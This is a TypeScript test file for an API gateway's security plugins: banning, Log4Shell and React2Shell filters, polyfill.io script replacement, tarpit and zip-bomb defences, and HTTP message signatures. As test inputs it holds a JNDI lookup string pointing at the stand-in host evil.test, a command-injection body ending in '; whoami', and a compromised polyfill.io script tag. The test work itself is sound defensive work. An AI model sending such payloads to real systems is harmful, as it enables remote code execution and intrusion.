/** The plugins of the family `security`, driven through a running gateway of two threads. */
import assert from 'node:assert/strict'
import { createHmac, generateKeyPairSync, randomBytes } from 'node:crypto'
import { mkdtempSync, rmSync } from 'node:fs'
import http from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import { createGunzip } from 'node:zlib'
import { HeaderBlock } from '../src/http/headers.ts'
import {
  contentDigest,
  digestFault,
  readCandidates,
  signatureBase,
  verifies,
} from '../src/message-signatures/index.ts'
import { Alerts } from './support/alerts.ts'
import { type Backend, startBackend } from './support/backend.ts'
import { startGateway, type TestGateway } from './support/gateway.ts'
import { call, type CallOptions, type Got } from './support/http.ts'
import { closes, pluginRoute } from './support/plugin-routes.ts'
import { until } from './support/wait.ts'

const folder = mkdtempSync(join(tmpdir(), 'otoroshi-security-'))
const pair = generateKeyPairSync('ed25519')
const PAGE = '<html><script src="https://cdn.polyfill.io/v3/polyfill.min.js?a=1"></script></html>'
let gateway: TestGateway
let backend: Backend
/** Lets requests of `X-User: good` pass. */
let validator: Backend
let alerts: Alerts

before(async () => {
  gateway = await startGateway({ threads: 2 })
  backend = await startBackend((seen, response) => {
    const status = /^\/status\/(\d+)/.exec(seen.url)
    if (status !== null) response.statusCode = Number(status[1])
    if (seen.url === '/page') response.setHeader('Content-Type', 'text/html')
    else response.setHeader('Content-Type', 'application/json')
    response.setHeader('X-Frame-Options', 'ALLOWALL')
    response.end(seen.url === '/page' ? PAGE : JSON.stringify({ headers: seen.headers, body: seen.body }))
  })
  validator = await startBackend((seen, response) => {
    const { headers } = JSON.parse(seen.body).request
    if (headers['x-user'] === 'moved') response.writeHead(302, { Location: '/elsewhere' })
    response.end(JSON.stringify({ pass: headers['x-user'] === 'good' }))
  })
  const key = { kind: 'inline', secret_or_pem: 'shared', keyid: 'k' }
  const own = { kind: 'inline', secret_or_pem: pair.privateKey.export({ type: 'pkcs8', format: 'pem' }) }
  const url = `http://127.0.0.1:${validator.port}/check`
  const routes: [string, string, object?][] = [
    ['banning', 'Fail2BanPlugin', { max_retry: 5 }],
    ['banning-default', 'Fail2BanPlugin'],
    ['blocking', 'Fail2BanPlugin', { blocked: ['Ip(127.*)'] }],
    ['log4shell', 'NgLog4ShellFilter', { status: 403, body: 'no', parse_body: true }],
    ['log4shell-default', 'NgLog4ShellFilter'],
    ['react', 'React2SShellDetector', { block: true }],
    ['react-default', 'React2SShellDetector'],
    [
      'headers',
      'SecurityHeadersPlugin',
      { frame_options: 'DENY', csp: { mode: 'ENABLED', csp: "default-src 'self'" } },
    ],
    ['headers-default', 'SecurityHeadersPlugin'],
    ['asking', 'NgExternalValidator', { url, error_status: 401, error_message: 'who are you' }],
    ['caching', 'NgExternalValidator', { url, cache_expression: '${req.headers.x-user}' }],
    ['unasked', 'NgExternalValidator', { url: 'http://127.0.0.1:1/', timeout: 1000 }],
    ['polyfill', 'PolyfillIoReplacer'],
    ['polyfill-told', 'PolyfillIoDetector'],
    ['endless', 'EndlessHttpResponse', { addresses: ['127.0.0.0/8'], clients: 1, rate: 65_536 }],
    ['endless-default', 'EndlessHttpResponse'],
    ['bomb', 'ZipBombBackend', { size: '10M', rate: 1_000_000_000 }],
    ['bomb-default', 'ZipBombBackend', { predicates: [{ path: '$.request.path', value: '/bomb' }] }],
    ['signed', 'HttpSignatureVerifyRequest', { keys: [key], mandatory: true }],
    ['signed-default', 'HttpSignatureVerifyRequest'],
    ['signing', 'HttpSignatureSignResponse', { key: own, keyid: 'gateway', tag: 'test' }],
    ['signing-default', 'HttpSignatureSignResponse'],
  ]
  for (const [id, name, config] of routes) await gateway.route(pluginRoute(id, backend, [[name, config]]))
  alerts = await Alerts.of(gateway, join(folder, 'alerts.log'))
})
after(async () => {
  await gateway.stop()
  await backend.close()
  await validator.close()
  rmSync(folder, { recursive: true })
})

const get = (id: string, path = '/', options: CallOptions = {}): Promise<Got> =>
  call(gateway.port, `http://${id}.test${path}`, options)
const outcome = ({ status, headers }: Got): string =>
  `${status} ${headers['otoroshi-error-reason'] ?? ''}`.trim()

describe('clients who fail too often', () => {
  it('are banned on every thread, whichever threads saw them fail', async () => {
    for (let i = 0; i < 5; i++) assert.equal((await get('banning', '/status/401')).status, 401)
    // New connections each: both threads get some.
    const all = await Promise.all(Array.from({ length: 20 }, () => get('banning')))
    assert.deepEqual([...new Set(all.map(outcome))], ['403 ban.temporary'])
    assert.equal(all[0]!.json.error, 'temporary_ban')
    assert.equal((await get('banning-default', '/status/401')).status, 401)
    assert.equal((await get('banning-default')).status, 200)
  })

  it('stay banned when the route changes', async () => {
    const route = pluginRoute('banning', backend, [['Fail2BanPlugin', { max_retry: 50 }]])
    const changed = await gateway.admin('PUT', '/apis/proxy.otoroshi.io/v1/routes/banning', route)
    assert.equal(changed.status, 200, changed.text)
    assert.equal(outcome(await get('banning')), '403 ban.temporary')
  })

  it('or who are listed, are refused', async () => {
    const got = await get('blocking')
    assert.equal(outcome(got), '403 ban.blocked')
    assert.deepEqual(got.json, { error: 'blocked', message: 'You cant access this resource.' })
  })
})

describe('attacks', () => {
  it('by look-ups of Log4j are answered', async () => {
    const evil = { headers: { 'User-Agent': '${${lower:j}ndi:ldap://evil.test/a}' } }
    const got = await get('log4shell', '/', evil)
    assert.deepEqual([outcome(got), got.body], ['403 attack.log4shell', 'no'])
    assert.equal((await get('log4shell', '/?x=%24%7Bjndi:ldap:x%7D')).status, 403)
    const body = '{"a":"\\u0024{jndi:x}"}'
    assert.equal((await get('log4shell', '/', { method: 'POST', body })).status, 403)
    const quiet = await get('log4shell-default', '/', evil)
    assert.deepEqual([quiet.status, quiet.body, quiet.headers['otoroshi-error-reason']], [200, '', undefined])
    const clean = await get('log4shell', '/?price=$5', { method: 'POST', body: 'clean' })
    assert.deepEqual([clean.status, clean.json.body], [200, 'clean'])
  })

  it('on React are refused, and told in an alert', async () => {
    const attack = { method: 'POST', headers: { 'Next-Action': 'x' }, body: '{"x":"$@0 ; whoami"}' }
    assert.equal(outcome(await get('react', '/', attack)), '401 attack.react2shell')
    assert.equal((await get('react', '/', { ...attack, body: '{"x":1}' })).status, 200)
    const passed = await get('react-default', '/', attack)
    assert.deepEqual([passed.status, passed.json.body], [200, attack.body])
    const provoke = () => get('react-default', '/', attack)
    const alert = await alerts.first(one => one['alert'] === 'ReactToShellDetectedAlert', provoke)
    assert.equal(alert['suspicious_score'], 6)
  })

  it('by scripts of polyfill.io are replaced, and told in an alert', async () => {
    const headers = { Accept: 'text/html', 'Accept-Encoding': 'gzip' }
    const replaced = await get('polyfill', '/page', { headers })
    const safe = 'https://cdnjs.cloudflare.com/polyfill/v3/polyfill.min.js'
    assert.equal(replaced.body, PAGE.replace('https://cdn.polyfill.io/v3/polyfill.min.js', safe))
    const told = () => get('polyfill-told', '/page', { headers })
    assert.equal((await told()).body, PAGE)
    const alert = await alerts.first(one => one['alert'] === 'CdnPolyfillIoDetectedAlert', told)
    assert.deepEqual([alert['occurences_nbr'], alert['@serviceId']], [1, 'polyfill-told'])
  })
})

it('security headers are those of the settings', async () => {
  const { headers } = await get('headers')
  assert.equal(headers['x-frame-options'], 'DENY')
  assert.equal(headers['content-security-policy'], "default-src 'self'")
  assert.equal((await get('headers-default')).headers['x-frame-options'], undefined)
})

describe('an external validator', () => {
  const as = (user: string): CallOptions => ({ headers: { 'X-User': user } })

  it('decides, and a redirection is no yes', async () => {
    assert.equal((await get('asking', '/', as('good'))).status, 200)
    for (const [user, reason] of [
      ['bad', '401 validator.refused'],
      ['moved', '401 validator.failed'],
    ] as const) {
      const got = await get('asking', '/', as(user))
      assert.equal(outcome(got), reason)
      assert.deepEqual(got.json, { 'Otoroshi-Error': 'who are you' })
    }
    assert.ok(validator.seen.every(({ url }) => url === '/check'))
  })

  it('that is away lets nobody in', async () => {
    assert.equal(outcome(await get('unasked', '/', as('good'))), '403 validator.failed')
  })

  it('is asked once per thread for what is kept', async () => {
    const before = validator.seen.length
    for (let i = 0; i < 20; i++) assert.equal((await get('caching', '/', as('bad'))).status, 403)
    assert.ok(validator.seen.length - before <= 2)
  })
})

/** Reads an answer until `enough` bytes came; answers the status and a way to leave. */
function open(id: string, enough: number): Promise<{ status: number; leave: () => void }> {
  return new Promise((resolve, reject) => {
    const request = http.get(
      { host: '127.0.0.1', port: gateway.port, headers: { Host: `${id}.test` } },
      response => {
        let size = 0
        const done = () => resolve({ status: response.statusCode!, leave: () => request.destroy() })
        response.on('error', () => {})
        response.on('end', done)
        response.on('data', (chunk: Buffer) => {
          size += chunk.length
          if (size >= enough) done()
        })
      },
    )
    request.on('error', reject)
  })
}

describe('unwanted clients', () => {
  it('are kept busy, as many as allowed, and make room when they leave', async () => {
    const clients = await Promise.all(Array.from({ length: 6 }, () => open('endless', 32_768)))
    const busy = clients.filter(({ status }) => status === 200)
    // One per thread.
    assert.ok(busy.length >= 1 && busy.length <= 2, String(busy.length))
    assert.ok(clients.every(({ status }) => status === 200 || status === 403))
    for (const { leave } of clients) leave()
    await until('there is room again', async () => {
      const { status, leave } = await open('endless', 1)
      leave()
      return status === 200
    })
    assert.equal((await get('endless-default')).status, 200)
  })

  it('get a small answer that becomes a huge one', async () => {
    const [sent, zeros] = await new Promise<[number, number]>((resolve, reject) => {
      const headers = { Host: 'bomb.test', 'Accept-Encoding': 'gzip' }
      http.get({ host: '127.0.0.1', port: gateway.port, headers }, response => {
        let [small, large] = [0, 0]
        response.on('data', chunk => (small += chunk.length))
        const gunzip = response.pipe(createGunzip())
        gunzip.on('data', (chunk: Buffer) => (large += chunk.length))
        gunzip.on('end', () => resolve([small, large])).on('error', reject)
      })
    })
    assert.equal(zeros, 10 * 1024 * 1024)
    assert.ok(sent < 20_000, String(sent))
    assert.ok((await get('bomb')).json.headers !== undefined)
    const headers = { 'Accept-Encoding': 'gzip' }
    assert.ok((await get('bomb-default', '/', { headers })).json.headers !== undefined)
  })
})

describe('HTTP message signatures', () => {
  const now = (): number => Math.floor(Date.now() / 1000)

  /** A signed request; `nonce` makes it good once. */
  function signed(body: string, nonce = randomBytes(8).toString('hex')): CallOptions {
    const digest = contentDigest(Buffer.from(body), 'sha-256')
    const input = `("@method" "@target-uri" "content-digest");created=${now()};keyid="k";nonce="${nonce}"`
    const base = [
      '"@method": POST',
      '"@target-uri": http://signed.test/a',
      `"content-digest": ${digest}`,
      `"@signature-params": ${input}`,
    ].join('\n')
    const signature = createHmac('sha256', 'shared').update(base).digest('base64')
    const headers = {
      'Content-Digest': digest,
      'Signature-Input': `sig=${input}`,
      Signature: `sig=:${signature}:`,
    }
    return { method: 'POST', headers, body }
  }

  it('of requests are verified, with the body', async () => {
    const got = await get('signed', '/a', signed('{"a":1}'))
    assert.equal(got.status, 200, got.body)
    assert.equal(got.json.body, '{"a":1}')
    const forged = await get('signed', '/a', { ...signed('{"a":1}'), body: '{"a":2}' })
    assert.equal(outcome(forged), '401 signature.invalid')
    assert.equal(outcome(await get('signed', '/b', signed('{"a":1}'))), '401 signature.invalid')
    assert.equal(outcome(await get('signed', '/a')), '401 signature.missing')
    const broken = { headers: { 'Signature-Input': 'sig=(', Signature: 'sig=:AA==:' } }
    assert.equal(outcome(await get('signed', '/a', broken)), '400 signature.malformed')
    assert.equal((await get('signed-default', '/a')).status, 200)
  })

  it('with a nonce are good once, over all threads', async () => {
    const request = signed('x', 'only-once')
    const all = await Promise.all(Array.from({ length: 20 }, () => get('signed', '/a', request)))
    assert.equal(all.filter(({ status }) => status === 200).length, 1)
    assert.equal(all.filter(got => outcome(got) === '401 signature.invalid').length, 19)
  })

  it('are put on answers', async () => {
    const got = await get('signing', '/a')
    const headers = HeaderBlock.from(
      Array.from({ length: got.rawHeaders.length / 2 }, (_, at): [string, string] => [
        got.rawHeaders[at * 2]!,
        got.rawHeaders[at * 2 + 1]!,
      ]),
    )
    const [candidate] = readCandidates(headers)
    const request = {
      method: 'GET',
      scheme: 'http',
      authority: 'signing.test',
      target: '/a',
      headers: new HeaderBlock(),
    } as const
    const base = signatureBase(candidate!.covered, { kind: 'response', status: 200, headers, request })
    assert.ok(verifies('ed25519', pair.publicKey, base, candidate!.signature))
    assert.equal(candidate!.parameters.keyid, 'gateway')
    assert.equal(digestFault(headers.get('content-digest')!, Buffer.from(got.body)), null)
    assert.equal((await get('signing-default')).headers['signature'], undefined)
  })
})

it('settings that are none close the route and name the place', async () => {
  await closes(gateway, backend, 'Fail2BanPlugin', { detect_time: 'soon' }, /detect_time/)
  await closes(gateway, backend, 'NgLog4ShellFilter', { status: 99 }, /status/)
  await closes(gateway, backend, 'React2SShellDetector', { block: 'yes' }, /block/)
  await closes(gateway, backend, 'SecurityHeadersPlugin', { hsts: { max_age: -1 } }, /hsts\.max_age/)
  await closes(gateway, backend, 'NgExternalValidator', {}, /url/)
  await closes(gateway, backend, 'EndlessHttpResponse', { addresses: ['x'] }, /no IP address/)
  await closes(gateway, backend, 'ZipBombBackend', { status: 7 }, /status/)
  await closes(gateway, backend, 'HttpSignatureVerifyRequest', { keys: [{ kind: 'cert' }] }, /keys\.0/)
  await closes(gateway, backend, 'HttpSignatureSignResponse', { algorithm: 'none' }, /algorithm/)
})
